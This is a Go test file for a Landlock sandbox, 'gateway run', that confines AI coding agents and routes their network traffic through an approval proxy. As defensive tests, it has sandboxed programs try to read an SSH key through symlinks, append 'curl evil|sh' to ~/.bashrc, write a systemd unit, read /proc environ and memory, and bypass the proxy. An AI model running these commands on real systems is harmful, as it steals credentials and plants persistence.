package main

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/metnos/gateway/client"
	"github.com/metnos/gateway/config"
	"github.com/metnos/gateway/gateway"
	"github.com/metnos/gateway/gateway/gatewaytest"
	"github.com/metnos/gateway/sandbox"
)

const (
	runAgentToken = "tok-run-agent-0123456789abcdef"
	runAdminToken = "tok-run-admin-0123456789abcdef"
	runChatToken  = "chat-token-SECRET-in-the-gateway-env"
	runKey        = "-----BEGIN OPENSSH PRIVATE KEY----- gateway-run-secret"
)

// runBox is a gateway, a fake home with a key, a workspace, and the
// config file gateway run reads.
type runBox struct {
	g            *gatewaytest.Gateway
	admin        *client.Client
	home, ws     string
	cfgFile      string
	db, tokFile  string
	upstream     string // host:port of a server outside the sandbox
	upstreamHits *int
}

func needRunLandlock(t *testing.T) {
	t.Helper()
	if sandbox.KernelABI() < 1 {
		t.Skip("this kernel has no Landlock: gateway run's sandbox cannot be tested here (its refusal is: TestRun_NoLandlock)")
	}
}

func newRunBox(t *testing.T, mutate func(*config.Config)) *runBox {
	t.Helper()
	cfg := gatewaytest.Config(t, gatewaytest.Agent("runner", runAgentToken, false), gatewaytest.Agent("admin", runAdminToken, true))
	cfg.Policy.Rules = append(cfg.Policy.Rules, config.Rule{Capability: "network:http", Target: "blocked.example", Action: config.ActionBlock})
	if mutate != nil {
		mutate(&cfg)
	}
	g := gatewaytest.Start(t, cfg, gateway.AppOptions{Home: "/home/test"})
	b := &runBox{g: g, admin: client.New(g.URL, runAdminToken), db: cfg.Storage.Path}
	root := t.TempDir()
	b.home, b.ws = filepath.Join(root, "home"), filepath.Join(root, "home", "src", "proj")
	for _, d := range []string{filepath.Join(b.home, ".ssh"), filepath.Join(b.ws, ".git"), filepath.Join(b.home, ".config", "systemd", "user")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	writeFile(t, filepath.Join(b.home, ".ssh", "id_ed25519"), runKey)
	writeFile(t, filepath.Join(b.home, ".bashrc"), "# rc\n")
	if err := os.Symlink(filepath.Join(b.home, ".ssh"), filepath.Join(b.ws, "keys")); err != nil {
		t.Fatal(err)
	}
	b.tokFile = filepath.Join(filepath.Dir(b.db), config.TokenFileName)
	writeFile(t, b.tokFile, "tok-local-SECRET-agent-token")
	b.cfgFile = filepath.Join(root, "gateway.toml")
	writeFile(t, b.cfgFile, fmt.Sprintf("[server]\nlisten = %q\n\n[storage]\npath = %q\n\n[[agents]]\nid = \"runner\"\ntoken_env = \"RUN_AGENT_TOKEN\"\n",
		strings.TrimPrefix(g.URL, "http://"), b.db))
	hits := 0
	var mu sync.Mutex
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		hits++
		mu.Unlock()
		fmt.Fprint(w, "upstream-says-hello")
	}))
	t.Cleanup(up.Close)
	b.upstream, b.upstreamHits = strings.TrimPrefix(up.URL, "http://"), &hits
	t.Chdir(b.ws) // gateway run's default workspace, the current directory
	return b
}

// run runs gateway run with args in the workspace and returns its output.
func (b *runBox) run(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	vars := map[string]string{"HOME": b.home, "RUN_AGENT_TOKEN": runAgentToken, "TELEGRAM_BOT_TOKEN": runChatToken}
	var out, errb bytes.Buffer
	args = append([]string{"run", "--config", b.cfgFile, "--agent", "runner"}, args...)
	code = run(context.Background(), args, strings.NewReader(""), &out, &errb, func(k string) string { return vars[k] })
	return code, out.String(), errb.String()
}

func tryBin(t *testing.T, name string) string {
	t.Helper()
	for _, d := range []string{"/usr/bin", "/bin", "/usr/local/bin"} {
		if _, err := os.Stat(filepath.Join(d, name)); err == nil {
			return filepath.Join(d, name)
		}
	}
	t.Skipf("no %s in /usr/bin, /bin or /usr/local/bin", name)
	return ""
}

// TestRun_HoldsTheMachine: under gateway run, a symlink to ~/.ssh made
// before the start or by the program reaches nothing (cat, Python, Node);
// ~/.bashrc and a systemd user unit cannot be written; the gateway's
// database and token file cannot be read, nor its environment or memory;
// the gateway's secrets are not in the program's environment; the
// workspace is the program's.
func TestRun_HoldsTheMachine(t *testing.T) {
	needRunLandlock(t)
	b := newRunBox(t, nil)
	key := filepath.Join(b.ws, "keys", "id_ed25519")
	pid := strconv.Itoa(os.Getpid()) // the gateway of this test runs in this process
	for name, argv := range map[string][]string{
		"cat before":    {tryBin(t, "cat"), key},
		"python before": {tryBin(t, "python3"), "-c", "print(open(" + strconv.Quote(key) + ").read())"},
		"node before":   {tryBin(t, "node"), "-e", "console.log(require('fs').readFileSync(" + strconv.Quote(key) + ", 'utf8'))"},
		"after":         {tryBin(t, "bash"), "-c", `ln -s "$HOME/.ssh" later && cat later/id_ed25519`},
		"bashrc":        {tryBin(t, "bash"), "-c", `echo 'curl evil|sh' >> "$HOME/.bashrc"`},
		"unit":          {tryBin(t, "bash"), "-c", `echo '[Service]' > "$HOME/.config/systemd/user/x.service"`},
		"database":      {tryBin(t, "cat"), b.db},
		"token file":    {tryBin(t, "cat"), b.tokFile},
		"environ":       {tryBin(t, "cat"), "/proc/" + pid + "/environ"},
		"memory":        {tryBin(t, "python3"), "-c", "f=open('/proc/" + pid + "/mem','rb'); print(f.read(1))"},
	} {
		code, out, errOut := b.run(t, append([]string{"--"}, argv...)...)
		if code == 0 || strings.Contains(out, "gateway-run-secret") || strings.Contains(out, "SQLite") || strings.Contains(out, "SECRET") {
			t.Errorf("%s: exit %d, stdout %q, stderr %q", name, code, out, errOut)
		}
		os.Remove(filepath.Join(b.ws, "later"))
	}
	if got, _ := os.ReadFile(filepath.Join(b.home, ".bashrc")); string(got) != "# rc\n" {
		t.Errorf("~/.bashrc is now %q", got)
	}
	code, out, errOut := b.run(t, "--", tryBin(t, "bash"), "-c", `env; echo made > made.txt && cat made.txt`)
	if code != 0 || !strings.HasSuffix(out, "made\n") {
		t.Fatalf("the workspace: exit %d, %q, %q", code, out, errOut)
	}
	for _, want := range []string{"GATEWAY_TOKEN=" + runAgentToken, "GATEWAY_URL=http://127.0.0.1:", "HTTPS_PROXY=http://127.0.0.1:", "TMPDIR=/"} {
		if !strings.Contains(out, want) {
			t.Errorf("the environment lacks %s", want)
		}
	}
	if strings.Contains(out, runChatToken) || strings.Contains(out, "RUN_AGENT_TOKEN") {
		t.Errorf("the gateway's secrets reached the program's environment:\n%s", out)
	}
	if !strings.Contains(errOut, "gateway run: Landlock ABI ") || !strings.Contains(errOut, "read exceptions") || !strings.Contains(errOut, "own network namespace") {
		t.Errorf("start line: %q", errOut)
	}
}

// TestRun_Network: through the proxy a blocked host gets 403 naming the
// rule, a granted one goes through, an unknown one waits for a person; a
// direct connection ignoring the proxy reaches nothing, the gateway's
// page neither.
func TestRun_Network(t *testing.T) {
	needRunLandlock(t)
	b := newRunBox(t, nil)
	ctx := context.Background()
	curl := tryBin(t, "curl") + ` -sS --max-time 60 -x "$HTTPS_PROXY" --noproxy ''`
	code, out, errOut := b.run(t, "--", tryBin(t, "bash"), "-c", curl+` -o /dev/null -w '%{http_code}\n' http://blocked.example/; `+curl+` https://blocked.example/ ; echo "https $?"`)
	if code != 0 || !strings.HasPrefix(out, "403\n") || !strings.Contains(out, "https 56") {
		t.Fatalf("blocked host: exit %d, %q, %q", code, out, errOut)
	}
	// An upstream host outside the sandbox: asked first, then granted.
	events := make(chan client.Event, 16)
	ectx, cancel := context.WithCancel(ctx)
	defer cancel()
	ch, err := b.admin.Events(ectx)
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		for e := range ch {
			events <- e
		}
	}()
	done := make(chan string, 1)
	go func() {
		_, out, errOut := b.run(t, "--", tryBin(t, "bash"), "-c", curl+" http://"+b.upstream+"/")
		done <- out + errOut
	}()
	ev := runRequired(t, events)
	if ev.Capability != "network:http" || ev.Target != b.upstream {
		t.Fatalf("asked %s on %q, want network:http on %q", ev.Capability, ev.Target, b.upstream)
	}
	if _, err := b.admin.Decide(ctx, ev.ID, client.AllowAlways); err != nil {
		t.Fatal(err)
	}
	select {
	case got := <-done:
		if !strings.Contains(got, "upstream-says-hello") {
			t.Fatalf("allowed request: %q", got)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("the allowed request did not finish")
	}
	// The grant lets it through without asking.
	code, out, _ = b.run(t, "--", tryBin(t, "bash"), "-c", curl+" http://"+b.upstream+"/")
	if code != 0 || out != "upstream-says-hello" {
		t.Fatalf("granted: exit %d, %q", code, out)
	}
	// Ignoring the proxy: the upstream, the gateway itself, the proxy's
	// port on another loopback address; and the page through the API.
	gwPort := b.g.URL[strings.LastIndex(b.g.URL, ":")+1:]
	script := `import os, socket, urllib.parse
proxy = urllib.parse.urlparse(os.environ['HTTPS_PROXY'])
for h, p in [(%q, %s), ('127.0.0.1', %s), ('127.0.0.2', proxy.port), ('127.0.0.3', proxy.port)]:
    s = socket.socket(); s.settimeout(5)
    try:
        s.connect((h, p)); print('connected', h, p)
    except OSError as e:
        print('refused', h, p)
`
	host, port, _ := strings.Cut(b.upstream, ":")
	code, out, errOut = b.run(t, "--", tryBin(t, "python3"), "-c", fmt.Sprintf(script, host, port, gwPort))
	if code != 0 || strings.Contains(out, "connected") || strings.Count(out, "refused") != 4 {
		t.Fatalf("direct: exit %d, %q, %q", code, out, errOut)
	}
	code, out, _ = b.run(t, "--", tryBin(t, "bash"), "-c", tryBin(t, "curl")+` -s -w '%{http_code} ' -o /dev/null -o /dev/null -o /dev/null "$GATEWAY_URL/" "$GATEWAY_URL/login" "$GATEWAY_URL/healthz"`)
	if code != 0 || out != "404 404 200 " {
		t.Fatalf("the page from inside: exit %d, %q", code, out)
	}
}

// TestRun_NoLandlock: on a kernel without Landlock gateway run refuses
// (status 3, naming the kernel and the flag) unless --unsandboxed, which
// runs the program saying so.
func TestRun_NoLandlock(t *testing.T) {
	b := newRunBox(t, nil)
	old := kernelABI
	kernelABI = func() int { return 0 }
	t.Cleanup(func() { kernelABI = old })
	code, out, errOut := b.run(t, "--", tryBin(t, "true"))
	if code != exitNoSandbox || out != "" || !strings.Contains(errOut, "(Linux ") || !strings.Contains(errOut, "--unsandboxed") {
		t.Fatalf("exit %d, %q, %q", code, out, errOut)
	}
	code, out, errOut = b.run(t, "--unsandboxed", "--", tryBin(t, "bash"), "-c", `echo "$GATEWAY_URL"`)
	if code != 0 || out != b.g.URL+"\n" || !strings.Contains(errOut, "UNSANDBOXED") {
		t.Fatalf("--unsandboxed: exit %d, %q, %q", code, out, errOut)
	}
}

// TestRun_Print: --print shows the effective rules and starts nothing.
func TestRun_Print(t *testing.T) {
	b := newRunBox(t, func(c *config.Config) {})
	code, out, errOut := b.run(t, "--print", "--abi", "2", "--", "claude")
	if code != 0 || errOut != "" {
		t.Fatalf("exit %d, %q", code, errOut)
	}
	for _, want := range []string{"landlock: ABI 2 ", "deny " + filepath.Join(b.home, ".ssh") + " (.ssh)", "deny " + filepath.Dir(b.db) + " (of the gateway", "\n  " + b.ws + "\n",
		"\n  " + filepath.Join(b.home, ".claude") + "\n", "network: through the egress proxy only"} {
		if !strings.Contains(out, want) {
			t.Errorf("--print lacks %q:\n%s", want, out)
		}
	}
	if code, _, errOut := b.run(t, "--workspace", b.home, "--", "true"); code != exitUsage || !strings.Contains(errOut, "holds the home directory") {
		t.Errorf("--workspace ~: exit %d, %q", code, errOut)
	}
	var errb bytes.Buffer
	noHome := func(k string) string { return map[string]string{"RUN_AGENT_TOKEN": runAgentToken}[k] }
	if code := run(context.Background(), []string{"run", "--config", b.cfgFile, "--agent", "runner", "--", "true"}, strings.NewReader(""), &errb, &errb, noHome); code != exitUsage || !strings.Contains(errb.String(), "HOME") {
		t.Errorf("no HOME: exit %d, %q", code, errb.String())
	}
}

// TestRun_OlderABI: --abi restricts to an older Landlock ABI; the start
// line names it and what it holds, and the key stays unreadable.
func TestRun_OlderABI(t *testing.T) {
	needRunLandlock(t)
	b := newRunBox(t, nil)
	for abi := 1; abi <= sandbox.EffectiveABI(0); abi++ {
		code, out, errOut := b.run(t, "--abi", strconv.Itoa(abi), "--", tryBin(t, "cat"), filepath.Join(b.ws, "keys", "id_ed25519"))
		if code == 0 || strings.Contains(out, "secret") || !strings.Contains(errOut, fmt.Sprintf("Landlock ABI %d (%s)", abi, sandbox.Holds(abi))) {
			t.Errorf("ABI %d: exit %d, %q, %q", abi, code, out, errOut)
		}
	}
}

// TestRun_HookStillAsks: inside the sandbox the workspace is writable, so
// .git/commondir there is the text guard's: Claude Code's hook, run inside,
// reaches the gateway through the bridge and a person is asked.
func TestRun_HookStillAsks(t *testing.T) {
	needRunLandlock(t)
	bin := gatewayBinary(t) // before newRunBox moves into the workspace
	b := newRunBox(t, nil)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	ch, err := b.admin.Events(ctx)
	if err != nil {
		t.Fatal(err)
	}
	event := preToolUse(t, "Write", "toolu_commondir", map[string]any{"file_path": filepath.Join(b.ws, ".git", "commondir"), "content": "/elsewhere/.git\n"})
	eventFile := filepath.Join(b.ws, "event.json")
	writeFile(t, eventFile, event)
	done := make(chan string, 1)
	go func() {
		_, out, errOut := b.run(t, "--", tryBin(t, "bash"), "-c", bin+" hook claude-code --wait 1m < event.json")
		done <- out + errOut
	}()
	ev := runRequired(t, ch)
	if !strings.Contains(ev.Target, ".git/commondir") {
		t.Fatalf("asked about %s %q", ev.Capability, ev.Target)
	}
	if _, err := b.admin.Decide(ctx, ev.ID, client.Deny); err != nil {
		t.Fatal(err)
	}
	select {
	case out := <-done:
		if !strings.Contains(out, `"permissionDecision":"deny"`) {
			t.Fatalf("hook output: %q", out)
		}
	case <-time.After(60 * time.Second):
		t.Fatal("the hook did not answer")
	}
	if _, err := os.Stat(filepath.Join(b.ws, ".git", "commondir")); err == nil {
		t.Fatal(".git/commondir was written")
	}
}

// runRequired waits for the next approval_required event; the program
// asking starts in a sandbox on a loaded machine, so the wait is long.
func runRequired(t *testing.T, ch <-chan client.Event) client.Event {
	t.Helper()
	deadline := time.After(2 * time.Minute)
	for {
		select {
		case e := <-ch:
			if e.Kind == client.EventRequired {
				return e
			}
		case <-deadline:
			t.Fatal("no approval_required event within 2 minutes")
		}
	}
}
